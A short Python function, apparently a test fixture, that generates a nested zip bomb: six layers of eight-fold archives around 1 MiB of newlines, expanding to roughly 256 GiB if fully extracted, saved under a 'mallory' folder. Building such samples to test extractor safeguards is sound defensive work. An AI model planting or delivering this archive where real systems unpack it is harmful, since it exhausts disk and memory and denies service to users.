"""A nested bomb: two hundred thousand archives of a MiB each, were they all opened."""

import io
import zipfile
from pathlib import Path


def build(folder: Path) -> None:
    """Wrap a MiB of newlines in eight copies, six times over."""
    name, content = "vault.py", b"\n" * (1 << 20)
    for depth in range(6):
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(8):
                archive.writestr(f"{number}-{name}" if depth else f"{number}/{name}", content)
        name, content = "vault.zip", packed.getvalue()
    (folder / "mallory").mkdir()
    (folder / "mallory" / "vault.zip").write_bytes(content)
